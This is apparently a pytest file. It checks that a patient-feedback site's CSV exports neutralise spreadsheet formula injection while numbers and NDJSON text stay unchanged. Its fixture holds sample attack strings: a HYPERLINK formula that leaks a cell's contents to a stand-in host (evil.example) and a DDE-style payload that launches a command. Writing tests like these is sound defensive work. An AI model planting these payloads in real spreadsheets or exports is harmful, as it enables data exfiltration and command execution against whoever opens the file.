"""Every CSV the site writes neutralises cells a spreadsheet would run as a formula (a leading =, +, -, @, tab or
CR gets an apostrophe), in text cells only: numbers stay numbers, the NDJSON keeps the text as published, and
the dataset still validates."""
from __future__ import annotations

import csv
import io
import json

import pytest
from frictionless import Package
from sqlalchemy import text

from app.opendata.schema import TABLES
from app.text import spreadsheet_safe

ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "body": "-2 stars: the ward was cold and nobody came when I rang the bell at night.",
    "public_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reply": "+1 we hear you, and the heating is fixed.",
    "change": "\tTab first: a new call bell on every bed.",
    "provider": "=1+2 Ward",
    "answer": "\rCarriage return first: thank you.",
    "owner": "-Outpatients manager",
}
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def attacked(session, record, make_user):
    """Text already published before the normaliser or typed as is: the export must make it safe itself."""
    story = record["published"]
    session.execute(text("UPDATE stories SET title = :t, body = :b, public_name = :n WHERE id = :id"),
                    {"t": ATTACKS["title"], "b": ATTACKS["body"], "n": ATTACKS["public_name"], "id": story.id})
    session.execute(text("UPDATE providers SET name = :n WHERE id = :id"),
                    {"n": ATTACKS["provider"], "id": record["ward"].id})
    session.execute(text("UPDATE replies SET body = :b WHERE body = 'Visible reply text'"), {"b": ATTACKS["reply"]})
    session.execute(text("UPDATE changes SET description = :d, owner = :o"),
                    {"d": ATTACKS["change"], "o": ATTACKS["owner"]})
    session.commit()
    return record


def _export(app, tmp_path):
    out = tmp_path / "export"
    result = app.test_cli_runner().invoke(args=["dataset", "export", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _rows(path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_no_dataset_cell_starts_a_formula_and_the_text_comes_back_exactly(app, attacked, tmp_path):
    out = _export(app, tmp_path)
    for table in TABLES:
        for row in _rows(out / table.path):
            for column in table.columns:
                assert not row[column.name].startswith(RISKY), (table.name, column.name, row[column.name])
    stories = {r["id"]: r for r in _rows(out / "stories.csv")}
    story = stories[str(attacked["published"].id)]
    assert story["title"] == "'" + ATTACKS["title"]
    assert story["body"] == "'" + ATTACKS["body"] and story["public_name"] == "'" + ATTACKS["public_name"]
    assert story["criticality"] == "1" and int(story["id"]) > 0  # numbers are not touched
    assert {r["body"] for r in _rows(out / "responses.csv")} == {"'" + ATTACKS["reply"]}
    assert {r["description"] for r in _rows(out / "changes.csv")} == {"'" + ATTACKS["change"]}
    assert {r["owner"] for r in _rows(out / "changes.csv")} == {"'" + ATTACKS["owner"]}
    assert "'" + ATTACKS["provider"] in {r["name"] for r in _rows(out / "providers.csv")}
    # The NDJSON keeps the text exactly as published.
    nested = [json.loads(line) for line in (out / "stories.ndjson").read_text(encoding="utf-8").splitlines()]
    mine = next(s for s in nested if s["id"] == attacked["published"].id)
    assert mine["title"] == ATTACKS["title"] and mine["responses"][0]["body"] == ATTACKS["reply"]
    assert mine["changes"][0]["description"] == ATTACKS["change"] and mine["changes"][0]["owner"] == ATTACKS["owner"]
    report = Package(str(out / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    readme = (out / "README.md").read_text(encoding="utf-8")
    assert "Spreadsheet safety" in readme and "remove the first" in readme


def test_an_apostrophe_typed_first_gets_one_more_so_removing_one_always_restores(app, session, record, tmp_path):
    session.execute(text("UPDATE stories SET title = :t WHERE id = :id"),
                    {"t": "'Twas a long night", "id": record["published"].id})
    session.commit()
    out = _export(app, tmp_path)
    titles = {r["title"] for r in _rows(out / "stories.csv")}
    assert "''Twas a long night" in titles
    assert {t[1:] if t.startswith("'") else t for t in titles} >= {"'Twas a long night", "Another published story"}


def test_the_served_zip_is_neutralised_too(app, session, client, attacked):
    import zipfile

    from app.opendata.bundle import build

    with app.app_context():
        build(session)
    response = client.get("/data/storyloop-dataset.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
        stories = z.read("stories.csv").decode("utf-8")
    assert "'" + ATTACKS["title"].replace('"', '""') in stories


def _csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_insight_and_comparison_csvs_neutralise_provider_names(client, session, record):
    session.execute(text("UPDATE providers SET name = :n WHERE id = :id"),
                    {"n": ATTACKS["provider"], "id": record["ward"].id})
    session.commit()
    compare = _csv_cells(client.get("/compare.csv", query_string={"parent": "T1"}))
    names = [row[2] for row in compare[1:]]
    assert names == ["'" + ATTACKS["provider"]]
    for row in compare:
        assert not any(cell.startswith(RISKY) for cell in row), row
    for row in _csv_cells(client.get("/providers/W1/insight.csv")):
        assert not any(cell.startswith(RISKY) for cell in row), row


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-", "'-"), ("@here", "'@here"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted'", "''quoted'"), ("Ward 7", "Ward 7"), ("", ""),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_spreadsheet_safe_touches_text_only(value, expected):
    assert spreadsheet_safe(value) == expected


def test_negative_numbers_in_number_columns_stay_numbers(app, session, record, tmp_path):
    # A number column never gets the apostrophe, whatever its value: provider_months figures are integers.
    from datetime import date

    from app.insight.models import ProviderMonth

    session.add(ProviderMonth(provider_id=record["ward"].id, month=date(2025, 1, 1), stories=-1, replied=0,
                              crit0=0, crit1=0, crit2=0, crit3=0, crit4=0, crit5=0, changes_planned=0,
                              changes_made=0))
    session.commit()
    out = _export(app, tmp_path)
    months = _rows(out / "provider_months.csv")
    assert "-1" in {m["stories"] for m in months}

